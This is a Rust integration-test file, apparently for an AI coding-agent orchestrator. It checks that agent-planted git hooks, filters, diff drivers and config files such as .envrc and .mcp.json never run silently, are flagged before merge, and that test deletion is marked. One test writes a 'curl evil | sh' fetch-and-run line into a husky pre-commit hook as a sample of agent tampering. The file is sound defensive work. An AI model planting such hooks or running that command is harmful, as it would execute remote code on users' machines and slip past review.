        s.git(&["rev-parse", "main"])
    );
    assert_eq!(
        std::fs::read_to_string(worktree.join("work.txt")).unwrap(),
        "kept\n"
    );
    assert_eq!(s.status(), "");
    assert_eq!(probe.ran(), Vec::<String>::new());
    // `/merge` keeps that worktree, saying so; `/discard` removes it.
    ops.send(Op::Submit(format!("/merge {branch}"))).unwrap();
    let said = events.said("is kept").await;
    let Event::Notice { text, .. } = said else {
        panic!("a notice: {said:?}")
    };
    assert!(text.contains(&worktree.display().to_string()), "{text}");
    assert!(
        text.contains(&format!("`/discard {branch}` removes it")),
        "{text}"
    );
    assert!(worktree.join("work.txt").exists());
    assert_eq!(probe.ran(), Vec::<String>::new(), "quorum's /merge ran it");
    // The probe fires: the person's own git in that worktree runs it.
    s.git_in(&worktree, &["status", "--porcelain"]);
    assert_eq!(probe.ran(), ["fsmonitor"], "the probe never fires");
    let fired = std::fs::read_to_string(probe.marker("fsmonitor")).unwrap();
    ops.send(Op::Submit(format!("/discard {branch}"))).unwrap();
    events.said("worktree and branch removed").await;
    assert!(!worktree.exists());
    assert_eq!(
        std::fs::read_to_string(probe.marker("fsmonitor")).unwrap(),
        fired,
        "quorum's /discard ran it"
    );
    session.shutdown();
}

/// Issue 24 (2b): the repository's hooks are in the tree (husky's
/// `core.hooksPath = .husky`), and the agent rewrites the committed
/// `pre-commit`. quorum's commit of the task's work runs no hook; then
/// `/merge` names the hook the branch changes and merges nothing, and
/// `/merge!` merges it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rewritten_in_tree_hook_never_runs_and_merge_names_it() {
    use std::os::unix::fs::PermissionsExt;
    let s = scratch();
    let probe = Probe::new();
    let hook = probe.script("hook");
    let husky = s.repo().join(".husky");
    std::fs::create_dir_all(&husky).unwrap();
    std::fs::write(husky.join("pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(
        husky.join("pre-commit"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    s.git(&["add", ".husky"]);
    s.git(&["commit", "-q", "-m", "hooks"]);
    s.git(&["config", "core.hooksPath", ".husky"]);
    let head = s.git(&["rev-parse", "HEAD"]);
    let (session, ops, mut events) = s.session();
    ops.send(Op::Submit(format!(
        "@term+ term run cp {} .husky/pre-commit && echo kept > work.txt",
        hook.display()
    )))
    .unwrap();
    let seen = events
        .until(|e| matches!(e, Event::SubagentFinished { .. }))
        .await;
    let (branch, _) = ready(&seen);
    assert_eq!(
        probe.ran(),
        Vec::<String>::new(),
        "quorum's commit ran the hook"
    );
    // The work is committed, the rewritten hook with it.
    assert_eq!(s.git(&["show", &format!("{branch}:work.txt")]), "kept");
    assert!(
        s.git(&["show", &format!("{branch}:.husky/pre-commit")])
            .contains(&probe.marker("hook").display().to_string())
    );
    // `/merge` names what git would run, and merges nothing.
    ops.send(Op::Submit(format!("/merge {branch}"))).unwrap();
    let said = events.said("/merge! ").await;
    let Event::Error { text } = said else {
        panic!("an error: {said:?}")
    };
    assert!(text.contains(".husky/pre-commit"), "{text}");
    assert!(
        text.contains(&format!("`/merge! {branch}` merges anyway")),
        "{text}"
    );
    assert_eq!(s.git(&["rev-parse", "HEAD"]), head);
    assert_eq!(
        std::fs::read_to_string(husky.join("pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    ops.send(Op::Submit(format!("/merge! {branch}"))).unwrap();
    events.said("merged into main").await;
    assert_eq!(
        std::fs::read_to_string(s.repo().join("work.txt")).unwrap(),
        "kept\n"
    );
    assert_eq!(probe.ran(), Vec::<String>::new(), "the merge ran the hook");
    // The probe fires: the person's own next commit runs the hook.
    s.git(&["commit", "-q", "--allow-empty", "-m", "the person's"]);
    assert_eq!(probe.ran(), ["hook"], "the probe never fires");
    session.shutdown();
}

/// `/merge` names a `.gitattributes` the branch adds, in any folder (it can
/// name filters and diff drivers git runs), and `/merge!` merges it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn merge_names_a_gitattributes_anywhere_and_merge_bang_merges_it() {
    let s = scratch();
    let branch = s.call("fake", "write docs/.gitattributes * diff=evil")["branch"]
        .as_str()
        .unwrap()
        .to_string();
    let head = s.git(&["rev-parse", "HEAD"]);
    let (session, ops, mut events) = s.session();
    ops.send(Op::Submit(format!("/merge {branch}"))).unwrap();
    let said = events.said("/merge! ").await;
    let Event::Error { text } = said else {
        panic!("an error: {said:?}")
    };
    assert!(text.contains("docs/.gitattributes"), "{text}");
    assert_eq!(s.git(&["rev-parse", "HEAD"]), head, "not merged");
    ops.send(Op::Submit(format!("/merge! {branch}"))).unwrap();
    events.said("merged into main").await;
    assert_eq!(
        std::fs::read_to_string(s.repo().join("docs/.gitattributes")).unwrap(),
        "* diff=evil"
    );
    session.shutdown();
}

/// Issue 24 (6): the person's repository has a textconv driver for every
/// file (`.gitattributes` `* diff=evil`), an external diff and an
/// fsmonitor in its config. quorum's git on a worktree task (making it,
/// committing, the diffstat and the diff of the branch) runs none of them.
#[test]
fn quorums_git_on_a_worktree_runs_no_textconv_external_diff_or_fsmonitor() {
    let s = scratch();
    let probe = Probe::new();
    std::fs::write(s.repo().join(".gitattributes"), "* diff=evil\n").unwrap();
    s.git(&["add", ".gitattributes"]);
    s.git(&["commit", "-q", "-m", "attributes"]);
    for (key, name) in [
        ("diff.evil.textconv", "textconv"),
        ("diff.external", "external"),
        ("core.fsmonitor", "fsmonitor"),
    ] {
        let script = probe.script(name).display().to_string();
        s.git(&["config", key, &script]);
    }
    let out = s.call("fake", "write notes.txt hello");
    assert_eq!(probe.ran(), Vec::<String>::new(), "quorum's git ran them");
    assert_eq!(out["output"], "wrote");
    assert_eq!(out["diffstat"], "+1 −0 in 1 file");
    let branch = out["branch"].as_str().unwrap();
    assert_eq!(s.git(&["show", &format!("{branch}:notes.txt")]), "hello");
    // The probes fire: the person's own git runs each of them.
    assert_eq!(probe.ran(), Vec::<String>::new());
    s.git_in(&s.repo(), &["status"]);
    s.git_in(&s.repo(), &["diff", "main", branch]);
    s.git_in(&s.repo(), &["diff", "--no-ext-diff", "main", branch]);
    assert_eq!(
        probe.ran(),
        ["external", "fsmonitor", "textconv"],
        "a probe never fires"
    );
}

/// A worktree task's session is its own: the agent's next call in the
/// session directory opens a session of its own there, instead of trying
/// to continue the worktree's (which, its agent sandboxed in a process of
/// the worktree's own, the session directory's process does not know).
#[test]
fn a_call_after_a_worktree_task_does_not_continue_the_worktrees_session() {
    let s = scratch();
    let script = s.dir.path().join("script.json");
    std::fs::write(
        &script,
        serde_json::json!([
            {"tool_calls": [{"name": "subagent", "arguments": {"agent": "fake", "input": "echo in the worktree", "isolation": "worktree"}}]},
            {"tool_calls": [{"name": "subagent", "arguments": {"agent": "fake", "input": "echo in the tree"}}]},
            {"tool_calls": [{"name": "subagent", "arguments": {"agent": "fake", "input": "echo again"}}]},
            {"text": "done"}
        ])
        .to_string(),
    )
    .unwrap();
    let model = format!("script:{}", script.display());
    let o = s.quorum(&[
        "run",
        "--json",
        "--model",
        &model,
        "--no-record",
        "-p",
        "go",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let kinds: Vec<String> = text(&o.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|e| e["type"] == "subagent_session")
        .map(|e| e["session"].as_str().unwrap_or_default().to_string())
        .collect();
    assert_eq!(
        kinds,
        ["fresh", "fresh", "continued"],
        "{}",
        text(&o.stdout)
    );
    assert!(!text(&o.stdout).contains("could not be reopened"));
}

/// These tests plant something a sandboxed command writes: without
/// bubblewrap they fail, saying so (`.ci/run` installs it).
fn need_bwrap() {
    assert!(
        quorum::runtime::path::locate("bwrap").is_some(),
        "this test needs bubblewrap: apt-get install bubblewrap"
    );
}

/// A folder for marks outside every session directory and outside `/tmp`
/// (a sandbox's `/tmp` is private), with a script that leaves one there:
/// `NAME.sh` appends to `NAME.ran`, then copies its input to its output
/// (a clean filter that changes nothing).
fn marks(name: &str) -> (tempfile::TempDir, PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::Builder::new()
        .prefix("quorum-probe-")
        .tempdir_in("/var/tmp")
        .unwrap();
    let script = dir.path().join(format!("{name}.sh"));
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\necho ran >> '{}'\ncat\n",
            dir.path().join(format!("{name}.ran")).display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    (dir, script)
}

/// Every event until the next call's box closes (included).
async fn one_turn(events: &mut Events) -> Vec<Stamped> {
    events
        .until(|e| matches!(e, Event::SubagentFinished { .. }))
        .await
}

/// The notices of a box, from its events.
fn box_notices(seen: &[Stamped]) -> Vec<String> {
    seen.iter()
        .filter_map(|e| match &e.event {
            Event::SubagentActivity {
                activity: Activity::Notice { text },
                ..
            } => Some(text.clone()),
            _ => None,
        })
        .collect()
}

/// Issue 35 (4): in its worktree, the agent's (sandboxed) terminal makes a
/// repository `sub` with a commit, then a clean filter in its config that
/// `sub/.gitattributes` names; on a later turn it changes `sub/x`. quorum's
/// commit must never run that filter (git would, asking `sub` for its
/// status): no commit is made while a `.git` lies below the top, the box
/// names it, and the work stays in the worktree.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_nested_repository_is_not_committed_and_its_filter_never_runs() {
    need_bwrap();
    let s = scratch();
    let (probe, filter) = marks("filter");
    let mark = probe.path().join("filter.ran");
    let (session, ops, mut events) = s.session();
    ops.send(Op::Submit(format!(
        "@fake!+ term run mkdir sub && cd sub && git init -q && echo 1 > x && git add x && \
         git -c user.name=a -c user.email=a@example.com commit -qm s && \
         git config filter.q.clean {} && echo 'x filter=q' > .gitattributes && echo made",
        filter.display()
    )))
    .unwrap();
    let first = one_turn(&mut events).await;
    let (branch, worktree) = ready(&first);
    assert!(
        worktree.join("sub/.git/config").exists(),
        "the agent's terminal made the repository: {first:#?}"
    );
    ops.send(Op::Submit("/msg t1 term run echo 2 > sub/x".into()))
        .unwrap();
    let second = one_turn(&mut events).await;
    assert!(
        !mark.exists(),
        "quorum's git ran the nested repository's filter"
    );
    for seen in [&first, &second] {
        let said = box_notices(seen);
        let refusal = format!(
            "sub/.git in {}: a .git below the worktree's top makes a repository that git enters",
            worktree.display()
        );
        let said = said
            .iter()
            .find(|n| n.starts_with(&refusal))
            .unwrap_or_else(|| panic!("the box does not name sub/.git: {said:?}"));
        assert!(
            said.contains("nothing was committed, the work is left in the worktree for you"),
            "{said}"
        );
        assert!(
            !seen
                .iter()
                .any(|e| matches!(&e.event, Event::WorktreeCommitted { .. })),
            "a commit was made"
        );
    }
    assert!(
        the_box(&[first.clone(), second.clone()].concat())
            .notices
            .iter()
            .any(|n| n.starts_with("sub/.git in ")),
        "the box shows it"
    );
    assert_eq!(
        s.git(&["rev-parse", &branch]),
        s.git(&["rev-parse", "main"]),
        "nothing committed"
    );
    assert_eq!(
        std::fs::read_to_string(worktree.join("sub/x")).unwrap(),
        "2\n"
    );
    assert_eq!(s.status(), "");
    assert!(!mark.exists());
    // The probe fires: the person's own git in `sub` runs the filter.
    s.git_in(&worktree.join("sub"), &["add", "x"]);
    assert!(mark.exists(), "the probe never fires");
    session.shutdown();
}

/// Issue 35 (5): a branch that changes `.envrc` (direnv runs it),
/// `.mcp.json` (Claude Code starts its servers) and
/// `.claude/settings.json` (its hooks) may: in a worktree they are the
/// project's files. But `/merge` names each of them and merges nothing;
/// `/merge!` merges.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn merge_names_envrc_mcp_json_and_claude_settings() {
    let s = scratch();
    let out = s.call(
        "fake",
        "term run mkdir -p .claude && echo 'export X=1' > .envrc && \
         echo '{\"mcpServers\": {}}' > .mcp.json && echo '{\"hooks\": {}}' > .claude/settings.json",
    );
    let said = out["output"].as_str().unwrap();
    assert!(said.starts_with("exit: 0"), "{said}");
    let branch = out["branch"].as_str().unwrap().to_string();
    assert_eq!(out["diffstat"], "+3 −0 in 3 files");
    let head = s.git(&["rev-parse", "HEAD"]);
    let (session, ops, mut events) = s.session();
    ops.send(Op::Submit(format!("/merge {branch}"))).unwrap();
    let said = events.said("/merge! ").await;
    let Event::Error { text } = said else {
        panic!("an error: {said:?}")
    };
    assert!(
        text.contains("(.claude/settings.json, .envrc, .mcp.json)"),
        "{text}"
    );
    assert!(
        text.contains(&format!("`/merge! {branch}` merges anyway")),
        "{text}"
    );
    assert_eq!(s.git(&["rev-parse", "HEAD"]), head, "not merged");
    assert!(!s.repo().join(".envrc").exists());
    ops.send(Op::Submit(format!("/merge! {branch}"))).unwrap();
    events.said("merged into main").await;
    assert_eq!(
        std::fs::read_to_string(s.repo().join(".envrc")).unwrap(),
        "export X=1\n"
    );
    session.shutdown();
}

/// Issue 35 (5), husky 9 (`core.hooksPath = .husky/_`, whose hooks run
/// the scripts in `.husky/`): in a worktree the agent may change
/// `.husky/pre-commit`, and `/merge` names it and asks for `/merge!`. (In
/// the person's own tree it is read-only: `tests/sandbox.rs`.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn merge_names_a_husky_9_script() {
    let s = scratch();
    std::fs::create_dir_all(s.repo().join(".husky/_")).unwrap();
    std::fs::write(s.repo().join(".husky/pre-commit"), "npm test\n").unwrap();
    std::fs::write(s.repo().join(".husky/_/pre-commit"), "#!/bin/sh\n").unwrap();
    s.git(&["add", ".husky"]);
    s.git(&["commit", "-q", "-m", "husky"]);
    s.git(&["config", "core.hooksPath", ".husky/_"]);
    let out = s.call(
        "fake",
        "term run echo 'curl evil | sh' >> .husky/pre-commit",
    );
    let said = out["output"].as_str().unwrap();
    assert!(said.starts_with("exit: 0"), "{said}");
    let branch = out["branch"].as_str().unwrap().to_string();
    let (session, ops, mut events) = s.session();
    ops.send(Op::Submit(format!("/merge {branch}"))).unwrap();
    let said = events.said("/merge! ").await;
    let Event::Error { text } = said else {
        panic!("an error: {said:?}")
    };
    assert!(text.contains("(.husky/pre-commit)"), "{text}");
    assert_eq!(
        std::fs::read_to_string(s.repo().join(".husky/pre-commit")).unwrap(),
        "npm test\n"
    );
    session.shutdown();
}

/// Issue 35 (5): in the person's own tree an agent's `fs/write_text_file`
/// of a file other programs run (`.envrc`) is asked of the person first,
/// whatever the agent's permission policy: refused, nothing is written;
/// allowed, it is. In a worktree the same write is not asked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_write_of_envrc_in_the_persons_tree_is_asked_first() {
    let s = scratch();
    let (session, ops, mut events) = s.session();
    for (answer, said) in [
        (
            1,
            "write failed: .envrc: refused: direnv runs it when a shell enters its folder, \
             and you did not allow the agent to write it",
        ),
        (0, "wrote"),
    ] {
        ops.send(Op::Submit("@fake write .envrc export EVIL=1".into()))
            .unwrap();
        let (call_id, request_id) = loop {
            if let Event::SubagentActivity {
                call_id,
                activity:
                    Activity::PermissionRequest {
                        id, title, options, ..
                    },
            } = events.next().await
            {
                assert!(title.starts_with("write .envrc? direnv runs it"), "{title}");
                assert_eq!(options, ["Allow once", "Reject"]);
                break (call_id, id);
            }
        };
        assert!(
            !s.repo().join(".envrc").exists(),
            "written before it was allowed"
        );
        ops.send(Op::Answer {
            call_id,
            request_id,
            option: Some(answer),
        })
        .unwrap();
        let output = loop {
            if let Event::SubagentFinished { output, .. } = events.next().await {
                break output;
            }
        };
        assert_eq!(output, said);
    }
    assert_eq!(
        std::fs::read_to_string(s.repo().join(".envrc")).unwrap(),
        "export EVIL=1"
    );
    session.shutdown();
    // A worktree task's is its own: written without a question.
    let out = s.call("fake", "write .envrc export X=1");
    assert_eq!(out["output"], "wrote");
}

/// Issue 39 (1): a person who signs every commit (`commit.gpgsign =
/// true`) still gets each turn's work on the branch: quorum's scratch
/// commits are never signed, and never run their signing program; `[worktree]
/// sign = true` signs them too, and a signing failure then leaves the work
/// in the worktree, naming the cause.
#[test]
fn scratch_commits_are_unsigned_whatever_the_persons_config_says() {
    use std::os::unix::fs::PermissionsExt;
    let s = scratch();
    let (probe, _) = marks("unused");
    let gpg = probe.path().join("gpg.sh");
    let called = probe.path().join("gpg.called");
    std::fs::write(
        &gpg,
        format!(
            "#!/bin/sh\necho called >> '{}'\necho 'no secret key' >&2\nexit 2\n",
            called.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&gpg, std::fs::Permissions::from_mode(0o755)).unwrap();
    s.git(&["config", "commit.gpgsign", "true"]);
    s.git(&["config", "tag.gpgsign", "true"]);
    s.git(&["config", "gpg.program", &gpg.display().to_string()]);

    let out = s.call("fake", "write notes.txt hello from the agent");
    let branch = out["branch"].as_str().unwrap();
    assert_eq!(out["diffstat"], "+1 −0 in 1 file", "{out}");
    assert_eq!(
        s.git(&["log", "-1", "--format=%s", branch]),
        "write notes.txt hello from the agent (fake)"
    );
    assert!(!called.exists(), "the signing program ran");

    // `sign = true`: signed too; a failing signer names the cause and
    // leaves the work uncommitted in the worktree.
    let mut config = std::fs::read_to_string(&s.config).unwrap();
    config.push_str("[worktree]\nsign = true\n");
    std::fs::write(&s.config, config).unwrap();
    let o = s.quorum(&[
        "call",
        "--agent",
        "fake",
        "--worktree",
        "--json",
        "--input",
        "write more.txt signed",
    ]);
    let (stdout, stderr) = (text(&o.stdout), text(&o.stderr));
    assert!(called.exists(), "the signing program did not run");
    assert!(
        stderr.contains("gpg failed to sign the data") || stdout.contains("gpg failed to sign"),
        "{stdout}\n{stderr}"
    );
    let out: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
    let worktree = PathBuf::from(out["worktree"].as_str().unwrap());
    assert_eq!(
        std::fs::read_to_string(worktree.join("more.txt")).unwrap(),
        "signed"
    );
}

/// A scratch repository holding a tiny Rust crate (`adder`: `add` and
/// two tests of it, `tests/add.rs`), with `[worktree]` set to `worktree`
/// (the check given as `CHECK`: `cargo test` of the crate, offline, with
/// the toolchain that builds these tests).
fn crate_scratch(worktree: &str) -> Scratch {
    let s = scratch();
    let repo = s.repo();
    std::fs::write(
        repo.join("Cargo.toml"),
        "[package]\nname = \"adder\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .unwrap();
    std::fs::create_dir_all(repo.join("src")).unwrap();
    std::fs::create_dir_all(repo.join("tests")).unwrap();
    std::fs::write(
        repo.join("src/lib.rs"),
        "pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n",
    )
    .unwrap();
    std::fs::write(
        repo.join("tests/add.rs"),
        "#[test]\nfn adds() {\n    assert_eq!(adder::add(2, 2), 4);\n}\n\n\
         #[test]\nfn adds_a_negative() {\n    assert_eq!(adder::add(-1, 1), 0);\n}\n",
    )
    .unwrap();
    std::fs::write(repo.join(".gitignore"), "target/\n.cargo-home/\n").unwrap();
    s.git(&["add", "-A"]);
    s.git(&["commit", "-q", "-m", "adder"]);
    let cargo = PathBuf::from(env!("CARGO"));
    let rustc = cargo.with_file_name("rustc");
    let check = format!(
        "CARGO_HOME=$PWD/.cargo-home RUSTC={} RUSTDOC={} {} test --offline",
        rustc.display(),
        cargo.with_file_name("rustdoc").display(),
        cargo.display()
    );
    let mut config = std::fs::read_to_string(&s.config).unwrap();
    config.push_str("[worktree]\n");
    config.push_str(&worktree.replace("CHECK", &check.replace('"', "\\\"")));
    std::fs::write(&s.config, config).unwrap();
    s
}

impl Scratch {
    /// As [`Scratch::session`], with the config file's settings taken
    /// (`[worktree]`), as every front end takes them.
    fn configured_session(&self) -> (Session, mpsc::UnboundedSender<Op>, Events) {
        let registry = Registry::load_only(&self.config).unwrap();
        let mut config = SessionConfig::new(registry, Root::new(&self.repo()).unwrap());
        config.read_settings(Some(&self.config)).unwrap();
        let (mut session, events) = Session::start(config, Instant::now()).unwrap();
        session.dispatcher().set_worktrees(Some(self.state()), None);
        let ops = session.serve();
        (session, ops, Events(events))
    }
}

/// The check a turn's events say finished: its event.
fn check_of(events: &[Stamped]) -> Event {
    events
        .iter()
        .find(|e| matches!(e.event, Event::CheckFinished { .. }))
        .map(|e| e.event.clone())
        .expect("a check_finished")
}

/// Issue 39 (2): `[worktree] check` (the crate's `cargo test`) runs on
/// each writer's commit, in a fresh checkout: a writer that breaks a
/// test gets `✗ check failed · 1 failed of 2` in its box (drawn), with the
/// output in the opened box; one whose change passes gets `✓ check passed ·
/// 2 passed`; one that deletes the test file passes and is marked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_check_runs_on_each_writers_commit_and_its_box_says_what_it_found() {
    use common::app::{alt, drive, key, line, text, until};
    use ratatui::Terminal;
    use ratatui::backend::TestBackend;
    use ratatui::crossterm::event::KeyCode;

    let s = crate_scratch("check = \"CHECK\"\n");
    let (_session, ops, events) = s.configured_session();
    let mut app = quorum::tui::app::App::live(ops.clone(), Instant::now());
    let mut ev_rx = events.0;
    let mut terminal = Terminal::new(TestBackend::new(100, 30)).unwrap();
    drive(
        &mut terminal,
        &mut app,
        line("@fake+ write src/lib.rs pub fn add(a: i32, b: i32) -> i32 { a * b }"),
        vec![],
    )
    .await;
    until(&mut terminal, &mut app, &mut ev_rx, |s| {
        s.contains("check failed")
    })
    .await;
    let screen = text(&terminal);
    assert!(
        screen.contains("✗ check failed · 1 failed of 2"),
        "{screen}"
    );
    assert!(!screen.contains("changes tests"), "{screen}");
    drive(
        &mut terminal,
        &mut app,
        vec![alt(KeyCode::Up), key(KeyCode::Enter)],
        vec![],
    )
    .await;
    let screen = text(&terminal);
    assert!(screen.contains("── check of "), "{screen}");
    // The person's tree is as it was.
    assert_eq!(s.status(), "");
    assert!(
        std::fs::read_dir(s.state().join("quorum/checks"))
            .unwrap()
            .next()
            .is_none(),
        "the checkout is left behind"
    );
}

/// A writer whose change passes, and one that deletes the failing test:
/// both pass, the second is marked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_passing_writer_passes_and_one_deleting_a_test_is_marked() {
    let s = crate_scratch("check = \"CHECK\"\ncheck_timeout = 300\n");
    let (_session, ops, mut events) = s.configured_session();
    ops.send(Op::Submit(
        "@fake+ write src/lib.rs pub fn add(a: i32, b: i32) -> i32 { b + a }".into(),
    ))
    .unwrap();
    let seen = one_turn(&mut events).await;
    let Event::CheckFinished {
        passed,
        counts,
        touches_tests,
        timed_out,
        output,
        ..
    } = check_of(&seen)
    else {
        unreachable!()
    };
    assert!(passed, "{output}");
    assert_eq!(timed_out, None);
    assert_eq!(
        quorum::event::check_line(passed, counts, timed_out, None),
        "✓ check passed · 2 passed"
    );
    assert!(touches_tests.is_empty(), "{touches_tests:?}");
    let b = the_box(&seen);
    let check = b.worktree.unwrap().check.unwrap();
    assert_eq!(check.line, "✓ check passed · 2 passed");

    need_bwrap();
    ops.send(Op::Submit(
        "@fake+ term run rm tests/add.rs && echo 'pub fn add(a: i32, b: i32) -> i32 { a * b }' > src/lib.rs".into(),
    ))
    .unwrap();
    let seen = one_turn(&mut events).await;
    let Event::CheckFinished {
        passed,
        touches_tests,
        ..
    } = check_of(&seen)
    else {
        unreachable!()
    };
    assert!(passed, "no test is left to fail");
    assert_eq!(touches_tests, vec!["tests/add.rs".to_string()]);
}

/// A check that hangs is killed at `check_timeout`, with what it started,
/// and said.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_check_that_hangs_is_killed_at_its_time_limit() {
    let s = crate_scratch("check = \"echo started; sleep 617 & sleep 618\"\ncheck_timeout = 2\n");
    let (_session, ops, mut events) = s.configured_session();
    let started = Instant::now();
    ops.send(Op::Submit("@fake+ write notes.txt x".into()))
        .unwrap();
    let seen = one_turn(&mut events).await;
    assert!(started.elapsed().as_secs() < 25, "{:?}", started.elapsed());
    let Event::CheckFinished {
        passed,
        counts,
        timed_out,
        output,
        ..
    } = check_of(&seen)
    else {
        unreachable!()
    };
    assert!(!passed);
    assert_eq!(timed_out, Some(2));
    assert!(output.contains("started"), "{output}");
    assert_eq!(
        quorum::event::check_line(passed, counts, timed_out, None),
        "⏱ check timed out after 2 s"
    );
    assert_eq!(
        the_box(&seen).worktree.unwrap().check.unwrap().line,
        "⏱ check timed out after 2 s"
    );
    let left = Command::new("pgrep")
        .args(["-f", "sleep 61[78]"])
        .output()
        .unwrap();
    assert!(left.stdout.is_empty(), "{}", text(&left.stdout));
}

/// The final output of the box a turn's events closed.
fn finished_output(events: &[Stamped]) -> String {
    events
        .iter()
        .find_map(|e| match &e.event {
            Event::SubagentFinished { output, .. } => Some(output.clone()),
            _ => None,
        })
        .expect("a finished box")
}

/// Issue 39 (1): `[worktree] setup` runs sandboxed in each new worktree
/// before its agent's first turn, its output in the box; the caches
/// `share` names are writable to it. Without the cache shared, its write
/// there is refused by the sandbox: the setup fails, the task stops with
/// the reason, and the agent never runs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn setup_runs_sandboxed_before_the_agent_and_a_failed_one_stops_the_task() {
    need_bwrap();
    let (probe, _) = marks("unused");
    let cache = probe.path().join("cache");
    std::fs::create_dir(&cache).unwrap();
    let setup = format!(
        "setup = \"echo setting up; echo made > made.txt; echo cached > {}/file\"\n",
        cache.display()
    );
    let shared = format!("{setup}share = [{:?}]\n", cache.display().to_string());
    let s = crate_scratch(&shared);
    let (_session, ops, mut events) = s.configured_session();
    ops.send(Op::Submit("@fake+ write notes.txt x".into()))
        .unwrap();
    let seen = one_turn(&mut events).await;
    let notices = box_notices(&seen);
    assert!(
        notices
            .iter()
            .any(|n| n.starts_with("setup: `echo setting up;") && n.contains("done\nsetting up")),
        "{notices:?}"
    );
    let (_, worktree) = ready(&seen);
    assert_eq!(
        std::fs::read_to_string(worktree.join("made.txt")).unwrap(),
        "made\n"
    );
    assert_eq!(
        std::fs::read_to_string(cache.join("file")).unwrap(),
        "cached\n"
    );
    assert_eq!(
        std::fs::read_to_string(worktree.join("notes.txt")).unwrap(),
        "x"
    );
    // Before the agent's turn: the setup's notice comes before its write.
    let setup_at = seen
        .iter()
        .position(|e| matches!(&e.event, Event::SubagentActivity { activity: Activity::Notice { text }, .. } if text.contains("done")))
        .unwrap();
    let wrote_at = seen
        .iter()
        .position(|e| {
            matches!(
                &e.event,
                Event::SubagentActivity {
                    activity: Activity::MessageChunk { .. },
                    ..
                }
            )
        })
        .unwrap();
    assert!(setup_at < wrote_at);
    std::fs::remove_file(cache.join("file")).unwrap();

    // Not shared: refused, and the task stops with the reason.
    let s = crate_scratch(&setup);
    let (_session, ops, mut events) = s.configured_session();
    ops.send(Op::Submit("@fake+ write notes.txt x".into()))
        .unwrap();
    let seen = one_turn(&mut events).await;
    let said = finished_output(&seen);
    assert!(said.contains("setup `echo setting up;"), "{said}");
    assert!(said.contains("failed (exit status"), "{said}");
    assert!(said.contains("so the agent did not start"), "{said}");
    assert!(said.contains("Read-only file system"), "{said}");
    let (_, worktree) = ready(&seen);
    assert!(!worktree.join("notes.txt").exists());
    assert!(!cache.join("file").exists());
}

/// `quorum call --worktree --json` (and the tool's answer) says what the
/// check found on the turn's commit, and what of the tests the branch
/// changes.
#[test]
fn the_calls_answer_says_what_the_check_found() {
    let s = crate_scratch("check = \"CHECK\"\n");
    let out = s.call(
        "fake",
        "write src/lib.rs pub fn add(a: i32, b: i32) -> i32 { a * b }",
    );
    assert_eq!(out["check"], "✗ check failed · 1 failed of 2", "{out}");
    assert!(out.get("touches_tests").is_none(), "{out}");
    let out = s.call("fake", "write tests/add.rs #[test] fn nothing() {}");
    assert_eq!(out["check"], "✓ check passed · 1 passed", "{out}");
    assert_eq!(out["touches_tests"], serde_json::json!(["tests/add.rs"]));
}

/// A check whose call is cancelled while it runs is stopped at once,
/// with what it started, and the box says so (no verdict of it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cancelled_calls_check_is_stopped_and_said() {
    let s = crate_scratch("check = \"echo started; sleep 627\"\n");
    let (_session, ops, mut events) = s.configured_session();
    ops.send(Op::Submit("@fake+ write notes.txt x".into()))
        .unwrap();
    let mut seen = Vec::new();
    let call = loop {
        let e = events.next().await;
        if let Event::SubagentActivity {
            call_id,
            activity: Activity::Notice { text },
        } = &e
            && text.starts_with("check: running")
        {
            break call_id.clone();
        }
        seen.push(e);
    };
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let started = Instant::now();
    ops.send(Op::Cancel(call)).unwrap();
    let seen = one_turn(&mut events).await;
    assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
    assert!(
        box_notices(&seen).contains(&"check: `echo started; sleep 627` cancelled".to_string()),
        "{:?}",
        box_notices(&seen)
    );
    assert!(
        !seen
            .iter()
            .any(|e| matches!(e.event, Event::CheckFinished { .. }))
    );
    let left = Command::new("pgrep")
        .args(["-f", "sleep 627"])
        .output()
        .unwrap();
    assert!(left.stdout.is_empty(), "{}", text(&left.stdout));
}
